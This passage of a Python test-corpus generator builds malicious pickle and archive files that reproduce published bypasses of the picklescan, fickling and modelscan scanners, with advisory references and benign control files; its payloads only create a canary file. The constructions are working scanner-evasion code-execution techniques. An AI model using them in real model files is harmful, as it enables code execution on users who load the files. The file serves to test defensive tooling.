            + MEMOIZE
            + sbu("os")
            + MEMOIZE
            + binget(0)
            + binget(1)
            + STACK_GLOBAL
            + STOP,
            True,
            f"an int memo entry used as a STACK_GLOBAL operand after the payload ran "
            f"({PS}/pull/52)",
        ),
        Case(
            "picklescan_operator_methodcaller",
            "model.pkl",
            glob("builtins", "__import__")
            + MARK
            + unicode0("os")
            + TUPLE
            + REDUCE
            + put(0)
            + POP
            + glob("_operator", "methodcaller")
            + MARK
            + unicode0("system")
            + unicode0(p.sh)
            + TUPLE
            + REDUCE
            + MARK
            + get(0)
            + TUPLE
            + REDUCE
            + STOP,
            True,
            f"{PS_ADV}/GHSA-955r-x9j8-7rhh (_operator.methodcaller('system', cmd)(os))",
        ),
        Case(
            "picklescan_operator_attrgetter",
            "model.pkl",
            glob("builtins", "__import__")
            + MARK
            + unicode0("os")
            + TUPLE
            + REDUCE
            + put(0)
            + POP
            + glob("_operator", "attrgetter")
            + MARK
            + unicode0("system")
            + TUPLE
            + REDUCE
            + MARK
            + get(0)
            + TUPLE
            + REDUCE
            + MARK
            + unicode0(p.sh)
            + TUPLE
            + REDUCE
            + STOP,
            True,
            f"{PS_ADV}/GHSA-46h3-79wf-xr6c (_operator.attrgetter('system')(os)(cmd))",
        ),
        Case(
            "picklescan_pydoc_locate_methodcaller",
            "model.pkl",
            proto(4)
            + sglob("operator", "methodcaller")
            + sbu("system")
            + sbu(p.sh)
            + TUPLE2
            + REDUCE
            + sglob("pydoc", "locate")
            + sbu("os")
            + TUPLE1
            + REDUCE
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{PS_ADV}/GHSA-84r2-jw7c-4r5q (methodcaller('system', cmd)(pydoc.locate('os')))",
        ),
        Case(
            "picklescan_pkgutil_resolve_name",
            "model.pkl",
            proto(4)
            + sglob("pkgutil", "resolve_name")
            + sbu("os:system")
            + TUPLE1
            + REDUCE
            + sbu(p.sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{PS_ADV}/GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name('os:system') then called)",
        ),
        Case(
            "picklescan_functools_partial_torch_load",
            "model.pkl",
            proto(4)
            + sglob("functools", "partial")
            + sglob("torch", "load")
            + sbu(p.canary + ".pt")
            + TUPLE2
            + REDUCE
            + EMPTY_TUPLE
            + REDUCE
            + STOP,
            True,
            f"{PS_ADV}/GHSA-655q-fx9r-782v (partial(torch.load, path)(): a second, "
            f"unscanned file; {PS}/commit/93764d6)",
        ),
        Case(
            "picklescan_types_codetype",
            "model.pkl",
            _codetype_pickle(p),
            True,
            f"{PS_ADV}/GHSA-9m3x-qqw2-h32h (types.CodeType then FunctionType; {PS}/commit/173c8f2)",
        ),
        Case(
            "picklescan_cloudpickle_function",
            "model.pkl",
            _cloudpickle_function(p),
            True,
            f"{PS_ADV}/GHSA-9m3x-qqw2-h32h (cloudpickle rebuilds a function from its code; "
            f"{PS}/commit/173c8f2)",
        ),
        Case(
            "picklescan_legacy_torch_magic_via_eval",
            "model.pt",
            call("builtins", "eval", "0x1950A86A20F9469CFC6C", protocol=2)
            + pickle.dumps(1001, protocol=2)
            + pickle.dumps({}, protocol=2)
            + pickle.dumps([], protocol=2)
            + p.system(2)
            + pickle.dumps(None, protocol=2),
            True,
            f"{PS_ADV}/GHSA-97f8-7cmv-76j2 (legacy torch file whose magic number is computed "
            f"by eval, hiding the later pickles; {PS}/commit/b999763)",
        ),
    ]
    for flag in (0x1, 0x20, 0x40):
        cases.append(
            Case(
                f"picklescan_zip_flag_0x{flag:x}",
                "model.pt",
                _set_zip_flags(zip_of([("model/config.pkl", eval_pickle)]), flag),
                True,
                f"{PS_ADV}/GHSA-w8jq-xcqf-f792 (general-purpose flag bit 0x{flag:x}: Python's "
                f"zipfile refuses the member, PyTorch reads it; {PS}/commit/e58e45e)",
            )
        )
    del pickled
    return cases


def _codetype_pickle(p: _Payloads) -> bytes:
    """types.FunctionType(types.CodeType(*fields), {})() with a code object of our own."""
    code = compile(p.py, "<corpus>", "exec")
    fields = (
        code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals,
        code.co_stacksize, code.co_flags, code.co_code, code.co_consts, code.co_names,
        code.co_varnames, code.co_filename, code.co_name, code.co_qualname,
        code.co_firstlineno, code.co_linetable, code.co_exceptiontable, code.co_freevars,
        code.co_cellvars,
    )  # fmt: skip
    args = pickle.dumps(fields, protocol=4)[2:-1]
    if args.startswith(FRAME):
        args = args[9:]
    return (
        proto(4)
        + sglob("types", "FunctionType")
        + sglob("types", "CodeType")
        + args
        + REDUCE
        + EMPTY_DICT
        + TUPLE2
        + REDUCE
        + EMPTY_TUPLE
        + REDUCE
        + STOP
    )


def _cloudpickle_function(p: _Payloads) -> bytes:
    import cloudpickle

    namespace: dict = {}
    exec(f"def hook():\n    {p.py}\n", namespace)  # defines, never calls
    return cloudpickle.dumps(_Reduce(namespace["hook"]), protocol=4)


def _fickling(p: _Payloads) -> list[Case]:
    py, sh = p.py, p.sh
    code = compile(py, "<corpus>", "exec")
    hidden = glob("os", "system") + unicode0(sh) + TUPLE1 + REDUCE
    frame_straddle = (
        PROTO + b"\x05" + NONE
        + unicode0("a" * (8192 * 16 - 17)) + POP  # push the frame past the read buffer
        + MARK + FRAME + struct.pack("<Q", 2)  # the frame claims 2 bytes...
        + pickle.BINBYTES + struct.pack("<I", 0x107)  # ...BINBYTES reads 0x107 of them
        + b"\x00\x00" + (hidden + MARK).ljust(256 + 5, NONE) + POP_MARK + STOP
    )  # fmt: skip
    return [
        Case(
            "fickling_pty_spawn_build",
            "model.pkl",
            proto(4)
            + sglob("pty", "spawn")
            + MEMOIZE
            + enc(["/bin/sh", "-c", sh])
            + MEMOIZE
            + TUPLE1
            + REDUCE
            + MEMOIZE
            + EMPTY_DICT
            + BUILD
            + STOP,
            True,
            f"{FK_ADV}/GHSA-r7v6-mfhq-g3m2 (pty.spawn, its result BUILT so it is 'used')",
        ),
        Case(
            "fickling_pty_spawn_obj",
            "model.pkl",
            MARK + glob("pty", "spawn") + enc(["/bin/sh", "-c", sh], 0) + OBJ + STOP,
            True,
            f"pty.spawn through OBJ; {FK}/pull/108",
        ),
        Case(
            "fickling_marshal_functiontype",
            "model.pkl",
            proto(4)
            + sglob("types", "FunctionType")
            + sglob("marshal", "loads")
            + enc(marshal.dumps(code))
            + TUPLE1
            + REDUCE
            + EMPTY_DICT
            + TUPLE2
            + REDUCE
            + EMPTY_TUPLE
            + REDUCE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-565g-hwwr-4pp3 (marshal.loads code, wrapped by types.FunctionType)",
        ),
        Case(
            "fickling_runpy_run_path",
            "model.pkl",
            call("runpy", "run_path", p.canary + ".py", protocol=5),
            True,
            f"{FK_ADV}/GHSA-wfq2-52f7-7qvj, {FK_ADV}/GHSA-q5qq-mvfm-j35x (runpy.run_path)",
        ),
        Case(
            "fickling_cprofile_run",
            "model.pkl",
            call("cProfile", "run", py, protocol=5),
            True,
            f"{FK_ADV}/GHSA-p523-jq9w-64x9 (cProfile.run)",
        ),
        Case(
            "fickling_getattr_ctypes",
            "model.pkl",
            proto(5)
            + sglob("builtins", "getattr")
            + sglob("ctypes", "CDLL")
            + NONE
            + TUPLE1
            + REDUCE
            + sbu("system")
            + TUPLE2
            + REDUCE
            + enc(sh.encode())
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-q5qq-mvfm-j35x, {FK_ADV}/GHSA-5hvc-6wx8-mvv4 "
            "(getattr(ctypes.CDLL(None), 'system')(cmd))",
        ),
        Case(
            "fickling_getattr_importlib",
            "model.pkl",
            proto(5)
            + sglob("builtins", "getattr")
            + sglob("importlib", "import_module")
            + sbu("os")
            + TUPLE1
            + REDUCE
            + sbu("system")
            + TUPLE2
            + REDUCE
            + sbu(sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-q5qq-mvfm-j35x (getattr(importlib.import_module('os'), 'system'))",
        ),
        Case(
            "fickling_code_interactiveinterpreter",
            "model.pkl",
            proto(5)
            + sglob("builtins", "getattr")
            + sglob("code", "InteractiveInterpreter")
            + EMPTY_TUPLE
            + REDUCE
            + sbu("runsource")
            + TUPLE2
            + REDUCE
            + sbu(py)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-q5qq-mvfm-j35x (code.InteractiveInterpreter().runsource)",
        ),
        Case(
            "fickling_multiprocessing_spawnv_passfds",
            "model.pkl",
            call(
                "multiprocessing.util",
                "spawnv_passfds",
                b"/bin/sh",
                [b"/bin/sh", b"-c", sh.encode()],
                (),
                protocol=5,
            ),
            True,
            f"{FK_ADV}/GHSA-q5qq-mvfm-j35x (multiprocessing.util.spawnv_passfds)",
        ),
        Case(
            "fickling_obj_pop_invisible_call",
            "model.pkl",
            proto(4) + MARK + sglob("os", "system") + sbu(sh) + OBJ + POP + NONE + STOP,
            True,
            f"{FK_ADV}/GHSA-mxhj-88fx-4pcv (an OBJ call whose result is POPped)",
        ),
        Case(
            "fickling_network_smtp_obj_pop",
            "model.pkl",
            proto(4)
            + MARK
            + sglob("smtplib", "SMTP")
            + sbu("127.0.0.1")
            + enc(9)
            + OBJ
            + POP
            + NONE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-mxhj-88fx-4pcv (smtplib.SMTP, connects on construction; loopback here)",
        ),
        Case(
            "fickling_dotted_attr_pathlib_os_system",
            "model.pkl",
            call("pathlib", "os.system", sh),
            True,
            f"{FK_ADV}/GHSA-5j3x-jp52-966f (STACK_GLOBAL 'pathlib' 'os.system')",
        ),
        Case(
            "fickling_osx_support_find_build_tool",
            "model.pkl",
            call("_osx_support", "_find_build_tool", f"x; {sh} #"),
            True,
            f"{FK_ADV}/GHSA-5hwf-rc88-82xm (_osx_support._find_build_tool)",
        ),
        Case(
            "fickling_private_interpreters",
            "model.pkl",
            proto(4)
            + sglob("_xxsubinterpreters", "run_string")
            + sglob("_xxsubinterpreters", "create")
            + EMPTY_TUPLE
            + REDUCE
            + sbu(py)
            + TUPLE2
            + REDUCE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-6ggj-6f2q-f7mx (private stdlib subinterpreters; fixed after "
            f"fickling 0.1.12 in {FK}/commit/52fd4a6)",
        ),
        Case(
            "fickling_atexit_register",
            "model.pkl",
            proto(4)
            + sglob("atexit", "register")
            + sglob("os", "system")
            + sbu(sh)
            + TUPLE2
            + REDUCE
            + STOP,
            True,
            f"{FK_ADV}/GHSA-m6fh-58r7-x697 (atexit, site, _posixsubprocess were unblocked)",
        ),
        Case(
            "fickling_logging_filehandler_p0",
            "model.pkl",
            call("logging", "FileHandler", p.canary, protocol=0),
            True,
            f"{FK_ADV}/GHSA-mhc9-48gj-9gp3 (logging handlers open files; protocol 0)",
        ),
        Case(
            "fickling_linecache_getline",
            "model.pkl",
            call("linecache", "getline", p.canary, 1),
            True,
            f"{FK_ADV}/GHSA-r48f-3986-4f9c (linecache reads arbitrary files)",
        ),
        Case(
            "fickling_pickle_python_fallback",
            "model.pkl",
            call("pickle", "_loads", p.system(2)),
            True,
            f"{FK_ADV}/GHSA-fphw-536r-4p88 (pickle._loads, the pure-Python fallback; "
            f"{FK}/commit/1991a6f)",
        ),
        Case(
            "fickling_frame_boundary_straddle",
            "model.pkl",
            frame_straddle,
            True,
            "a FRAME shorter than the BINBYTES inside it: pickle.load on a file runs the "
            "GLOBAL hidden in the 'bytes' (https://github.com/python/cpython/issues/154848; "
            f"fixed after fickling 0.1.12 in {FK}/commit/99464b5)",
        ),
        Case(
            "fickling_computed_stack_global",
            "model.pkl",
            proto(4)
            + sglob("builtins", "str.join")
            + sbu("")
            + sbu("o")
            + sbu("s")
            + TUPLE2
            + TUPLE2
            + REDUCE
            + sbu("system")
            + STACK_GLOBAL
            + sbu(sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            "an obfuscated STACK_GLOBAL whose module name is computed by str.join while "
            f"loading ({MS}/issues/331)",
        ),
    ]


def _modelscan(p: _Payloads) -> list[Case]:
    sh = p.sh
    pickled = p.system(4)
    # A zip whose first entry has a broken local header: modelscan stops at it.
    broken_first = zip_of([("archive/aaa.pkl", pickle.dumps(0)), ("archive/data.pkl", pickled)])
    broken_first = broken_first.replace(b"PK\x03\x04", b"PK\x03\x05", 1)
    return [
        Case(
            "modelscan_put_previous_argument",
            "model.pkl",
            PROTO
            + b"\x05"
            + glob("numpy", "prod")
            + NONE
            + MARK
            + unicode0("a")
            + unicode0("os")
            + DICT
            + TUPLE2
            + BUILD
            + NONE
            + MARK
            + unicode0("b")
            + unicode0("system")
            + DICT
            + TUPLE2
            + BUILD
            + POP
            + glob("numpy", "prod.a")
            + put(0)
            + glob("numpy", "prod.b")
            + put(1)
            + POP
            + POP
            + get(0)
            + get(1)
            + STACK_GLOBAL
            + unicode0(sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{MS}/issues/85 (PUT memoises the previous opcode's argument, not the value: "
            "'os' and 'system' smuggled through numpy.prod attributes)",
        ),
        Case(
            "modelscan_numpy_builtins_dict_get",
            "model.pkl",
            PROTO
            + b"\x05"
            + glob("builtins", "dict.get")
            + glob("numpy", "__builtins__")
            + unicode0("exec")
            + TUPLE2
            + REDUCE
            + unicode0(p.py)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{MS}/issues/89 (dict.get(numpy.__builtins__, 'exec'))",
        ),
        Case(
            "modelscan_numpy_internal_sys_modules",
            "model.pkl",
            PROTO
            + b"\x05"
            + glob("numpy", "prod")
            + NONE
            + glob("numpy", "core._internal.sys.modules")
            + TUPLE2
            + BUILD
            + POP
            + glob("numpy", "prod.os.system")
            + unicode0(sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{MS}/issues/89 (sys.modules reached through numpy.core._internal)",
        ),
        Case(
            "modelscan_importlib_str_join",
            "model.pkl",
            proto(4)
            + sglob("importlib", "import_module")
            + MEMOIZE
            + sbu("builtins")
            + TUPLE1
            + REDUCE
            + MEMOIZE
            + sglob("builtins", "getattr")
            + MEMOIZE
            + binget(2)
            + binget(1)
            + sbu("str")
            + TUPLE2
            + REDUCE
            + sbu("join")
            + TUPLE2
            + REDUCE
            + sbu("")
            + EMPTY_LIST
            + MARK
            + sbu("o")
            + sbu("s")
            + APPENDS
            + TUPLE2
            + REDUCE
            + MEMOIZE
            + binget(2)
            + binget(0)
            + binget(3)
            + TUPLE1
            + REDUCE
            + sbu("system")
            + TUPLE2
            + REDUCE
            + sbu(sh)
            + TUPLE1
            + REDUCE
            + STOP,
            True,
            f"{MS}/issues/331 (importlib.import_module of a name built by str.join)",
        ),
        Case(
            "modelscan_mailcap_findmatch",
            "model.pkl",
            call(
                "mailcap", "findmatch", {"text/plain": [{"view": "true", "test": sh}]}, "text/plain"
            ),
            True,
            f"mailcap.findmatch runs an entry's test command ({MS}/pull/346)",
        ),
        Case(
            "modelscan_zip_broken_first_entry",
            "model.pt",
            broken_first,
            True,
            f"{MS}/issues/354 (one unreadable entry ends the zip walk before archive/data.pkl)",
        ),
        Case(
            "modelscan_zip_named_pkl",
            "model.pkl",
            zip_of([("model/weights.data", pickled)]),
            True,
            f"a .pkl that is really a zip of a pickle member ({MS}/issues/215)",
        ),
        Case(
            "modelscan_unscanned_extension_sav",
            "model.sav",
            pickled,
            True,
            "a pickle under .sav (scikit-learn's documented extension), absent from "
            f"modelscan's supported_extensions ({MS}/blob/main/modelscan/settings.py)",
        ),
        Case(
            "modelscan_unscanned_extension_pth_tar",
            "checkpoint.pth.tar",
            pickled,
            True,
            f"a pickle under .pth.tar, absent from modelscan's supported_extensions ({MS}"
            "/blob/main/modelscan/settings.py)",
        ),
        Case(
            "modelscan_raw_pickle_pt",
            "model.pt",
            pickled,
            True,
            "a raw pickle under .pt: modelscan's PyTorch scanner wants the legacy magic number "
            f"({MS}/blob/main/modelscan/tools/picklescanner.py scan_pytorch)",
        ),
        Case(
            "modelscan_functools_partial",
            "model.pkl",
            proto(4)
            + sglob("functools", "partial")
            + sglob("posix", "system")
            + sbu(sh)
            + TUPLE2
            + REDUCE
            + EMPTY_TUPLE
            + REDUCE
            + STOP,
            True,
            f"functools.partial(posix.system, cmd)(); modelscan's unsafe_globals miss "
            f"functools ({MS}/blob/main/modelscan/settings.py)",
        ),
    ]


# -- benign controls ----------------------------------------------------------------------


def _npy_float() -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.arange(12, dtype=np.float32).reshape(3, 4))
    return buffer.getvalue()


def _safetensors() -> bytes:
    tensors = {"weight": ("F32", [2, 3]), "bias": ("F32", [3])}
    header, offset, data = {}, 0, b""
    for name, (dtype, shape) in tensors.items():
        size = 4
        for n in shape:
            size *= n
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [offset, offset + size]}
        data += struct.pack(f"<{size // 4}f", *range(size // 4))
        offset += size
    header["__metadata__"] = {"format": "pt"}
    raw = json.dumps(header, separators=(",", ":")).encode()
    raw += b" " * (-len(raw) % 8)
    return struct.pack("<Q", len(raw)) + raw + data


def _gguf() -> bytes:
    """A GGUF v3 file with one metadata pair and no tensors."""
    key, value = b"general.architecture", b"llama"
    kv = struct.pack("<Q", len(key)) + key + struct.pack("<I", 8)  # type 8: string
    kv += struct.pack("<Q", len(value)) + value
    return b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + kv


def _onnx() -> bytes:
    import onnx
    from onnx import TensorProto, helper

    node = helper.make_node("Relu", ["x"], ["y"])
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 4])],
    )
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 13)])
    model.ir_version = 8
    return onnx._serialize(model) if hasattr(onnx, "_serialize") else model.SerializeToString()


def _controls() -> list[Case]:
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.preprocessing import StandardScaler

    estimator = LogisticRegression().fit(np.array([[0.0], [1.0], [2.0], [3.0]]), [0, 0, 1, 1])
    joblib_bytes = io.BytesIO()
    joblib.dump(estimator, joblib_bytes)
    scaler_bytes = io.BytesIO()
    joblib.dump(StandardScaler().fit(np.arange(8.0).reshape(4, 2)), scaler_bytes, compress=3)
    npz = io.BytesIO()
    np.savez(npz, a=np.arange(3), b=np.ones((2, 2)))
    npz_compressed = io.BytesIO()
    np.savez_compressed(npz_compressed, a=np.arange(3), b=np.ones((2, 2)))
    state = torch_state_dict_pickle({"fc.weight": ("0", 6, (2, 3)), "fc.bias": ("1", 2, (2,))})
    storages = {"0": struct.pack("<6f", *range(6)), "1": struct.pack("<2f", 0.5, -0.5)}
    # fickling rates every import outside the standard library (numpy, scikit-learn,
    # torch) as LIKELY_UNSAFE: its false positives on real models, recorded here rather
    # than required of Modelgate. Controls without it are flagged by no tool.
    fk = frozenset({"fickling"})
    return [
        Case("control_sklearn_joblib", "model.joblib", joblib_bytes.getvalue(), False,
             "control: joblib.dump of a fitted LogisticRegression"),
        Case("control_sklearn_joblib_zlib", "scaler.joblib", scaler_bytes.getvalue(), False,
             "control: joblib.dump(compress=3) of a fitted StandardScaler"),
        Case("control_sklearn_pickle", "model.pkl", pickle.dumps(estimator, protocol=5),
             False, "control: pickle.dumps of a fitted LogisticRegression", fk),
        Case("control_plain_data_pickle", "data.pkl",
             pickle.dumps({"labels": ["a", "b"], "sizes": (1, 2.5), "ok": True}, protocol=4),
             False, "control: a pickle of builtin containers only"),
        Case("control_numpy_pickle", "array.pkl", pickle.dumps(np.arange(5.0), protocol=2),
             False, "control: pickle.dumps of a numpy array", fk),
        Case("control_npy", "weights.npy", _npy_float(), False, "control: numpy .npy float32"),
        Case("control_npz", "weights.npz", npz.getvalue(), False, "control: np.savez"),
        Case("control_npz_compressed", "weights.npz", npz_compressed.getvalue(), False,
             "control: np.savez_compressed"),
        Case("control_torch_zip_state_dict", "pytorch_model.bin", torch_zip(state, storages),
             False, "control: torch.save-style zip (data.pkl with _rebuild_tensor_v2 and "
             "persistent storages, raw float32 storages), built without torch", fk),
        Case("control_torch_zip_pt", "model.pt", torch_zip(state, storages, prefix="model"),
             False, "control: the same checkpoint under .pt with another archive prefix", fk),
        Case("control_safetensors", "model.safetensors", _safetensors(), False,
             "control: safetensors with two F32 tensors"),
        Case("control_gguf", "model.gguf", _gguf(), False, "control: a GGUF v3 header"),
        Case("control_onnx", "model.onnx", _onnx(), False, "control: an ONNX Relu graph"),
        Case("control_json_config", "config.json",
             json.dumps({"architectures": ["Net"], "hidden_size": 4}).encode(), False,
             "control: a JSON model config"),
        Case("control_text_vocab", "vocab.txt", b"[PAD]\n[UNK]\nthe\nof\n", False,
             "control: a plain-text vocabulary"),
        Case("control_text_like_opcodes", "NOTES.txt",
             b"(see the model card)\nc'est fini\n]\n", False,
             "control: text whose first bytes are pickle opcodes ( c ]"),
        Case("control_opaque_tokenizer", "tokenizer.model",
             bytes(range(256)) * 4 + b"\n\x0b\n\x05hello\x15\x00\x00\x80?", False,
             "control: opaque binary tokenizer data (not a pickle)"),
    ]  # fmt: skip


def cases(canary: Path) -> list[Case]:
    """Every case, each payload harmless: loading it would at most create `canary`."""
    payloads = _Payloads(canary)
    found = (
        _classic(payloads)
        + _issue15(payloads)
        + _picklescan(payloads)
        + _fickling(payloads)
        + _modelscan(payloads)
        + _controls()
    )
    names = [case.name for case in found]
    assert len(names) == len(set(names)), "case names must be unique"
    return found
